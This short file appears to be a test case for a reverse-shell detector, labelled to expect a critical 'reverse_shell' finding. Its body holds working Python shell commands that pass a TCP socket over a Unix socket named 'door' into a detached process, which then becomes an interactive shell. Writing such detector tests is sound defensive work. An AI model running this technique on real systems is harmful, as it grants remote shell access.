# about: a process that has run for long is given the socket by a stranger over a named unix socket, and becomes the shell
# expect: reverse_shell critical
# needs: python3
proven 4505
setsid python3 -c 'import socket,os
l=socket.socket(socket.AF_UNIX); l.bind("door"); l.listen(1); c,_=l.accept()
_,f,_,_=socket.recv_fds(c,9,1)
for n in 0,1,2: os.dup2(f[0],n)
os.execv("/bin/sh",["sh","-i"])' & 
sleep 1
setsid python3 -c 'import socket
u=socket.socket(socket.AF_UNIX); u.connect("door"); s=socket.create_connection(("127.0.0.1",4505)); socket.send_fds(u,[b"x"],[s.fileno()])'
answered
